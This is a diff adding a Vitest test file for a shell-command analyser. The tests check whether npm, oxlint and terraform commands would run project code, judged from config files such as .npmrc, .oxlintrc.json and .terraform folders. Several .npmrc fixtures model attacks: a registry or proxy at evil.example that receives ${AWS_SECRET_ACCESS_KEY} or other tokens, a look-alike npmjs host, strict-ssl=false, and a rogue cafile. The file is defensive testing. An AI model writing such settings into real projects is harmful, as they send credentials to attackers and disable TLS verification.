@@ -1,0 +1,73 @@
+import { describe, expect, it } from "vitest";
+import type { World } from "../../../src/action/index.ts";
+import { lowerShell } from "../../../src/shell/index.ts";
+import { smallWorld } from "../world.ts";
+
+const P = "/home/u/p";
+/** True when some of what the line runs is code of the project, where these of its files say this. */
+function runsCode(line: string, texts: Readonly<Record<string, string>>, changes: Partial<World> = {}): boolean {
+  const files = Object.fromEntries(Object.keys(texts).map((name) => [`${P}/${name}`, name.endsWith("/") ? "directory" : "file"] as const));
+  const named = Object.fromEntries(Object.entries(files).map(([path, kind]) => [path.replace(/\/$/, ""), kind]));
+  const world = smallWorld({ files: named, text: (path) => texts[path.slice(P.length + 1)], ...changes });
+  return lowerShell(line, { world }).actions.some(({ kind }) => kind === "code");
+}
+
+describe("npm's settings of a project", () => {
+  it.each([
+    ["a variable for its registry", "registry=http://evil.example/\n//evil.example/:_authToken=${AWS_SECRET_ACCESS_KEY}\n"],
+    ["a variable in an address", "registry=http://evil.example/${TOKEN}\n"],
+    ["a host that begins like the public one", "  //registry.npmjs.org.evil.example/:_authToken=${TOKEN}\n"],
+    ["a proxy", "https-proxy=http://evil.example:8080\n"],
+    ["a proxy that is believed", "https-proxy = http://evil.example\nstrict-ssl=false\n"],
+    ["who is believed", "cafile=./evil.pem\n"],
+    ["a setting that nobody knows", "frobnicate=1\n"],
+    ["a section", "[x]\n"],
+  ])("are code where they choose %s", (_, text) => {
+    for (const line of ["npm ls", "npm view x", "npm prefix", "npm outdated --json", "npm --version", "bun outdated"])
+      expect([line, runsCode(line, { ".npmrc": text })]).toEqual([line, true]);
+  });
+
+  it.each([
+    "",
+    "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\nsave-exact=true\n# ${X}\n",
+    "@a:registry=https://npm.example/\nengine-strict=true\nomit[]=dev\nprefer-offline = true\n",
+  ])("%j changes nothing of a look", (text) => {
+    for (const line of ["npm ls", "npm view x"]) expect([line, runsCode(line, { ".npmrc": text })]).toEqual([line, false]);
+  });
+});
+
+describe("oxlint, whose plugins are code", () => {
+  it.each([
+    ["none", { "src/a.ts": "" }, false],
+    ["rules alone", { ".oxlintrc.json": '{"rules":{}}' }, false],
+    ["plugins", { ".oxlintrc.json": '{"jsPlugins":["./x.js"]}' }, true],
+    ["another that it extends", { ".oxlintrc.json": '{"extends":["./x.json"]}' }, true],
+    ["plugins in a folder below", { "a/b/.oxlintrc.json": '{"jsPlugins":["./x.js"]}' }, true],
+    ["code", { "oxlint.config.ts": "" }, true],
+  ])("with %s", (_, texts, expected) => {
+    expect(runsCode("oxlint", texts)).toBe(expected);
+  });
+
+  it("where the project is too large to look through", () => {
+    expect(runsCode("oxlint", {}, { find: () => ({ found: undefined, complete: false }) })).toBe(true);
+  });
+});
+
+describe("terraform, whose providers are programs", () => {
+  const OWN = { ".terraform/": "", ".terraform/providers/": "", ".terraform/providers/x": "", ".gitignore": ".terraform\n" };
+  const brought = (...paths: readonly string[]): Partial<World> => ({ tracked: (path) => paths.includes(path.slice(P.length + 1)) });
+
+  it.each<readonly [what: string, texts: Readonly<Record<string, string>>, changes: Partial<World>, expected: boolean]>([
+    ["none", {}, {}, false],
+    ["those that init fetched", OWN, brought(), false],
+    ["one of the repository", OWN, brought(".terraform/providers/x"), true],
+    ["a submodule", OWN, brought(".terraform/providers"), true],
+    ["a folder that is a submodule", OWN, brought(".terraform"), true],
+    ["those of a folder that git does not leave out", { ".terraform/": "", ".terraform/x": "" }, brought(), true],
+    ["no repository", OWN, { tracked: () => undefined }, true],
+    ["a folder that cannot be looked through", OWN, { ...brought(), find: () => ({ found: undefined, complete: false }) }, true],
+  ])("with %s", (_, texts, changes, expected) => {
+    for (const line of ["terraform validate", "terraform show", "tofu validate"])
+      expect([line, runsCode(line, texts, changes)]).toEqual([line, expected]);
+  });
+});
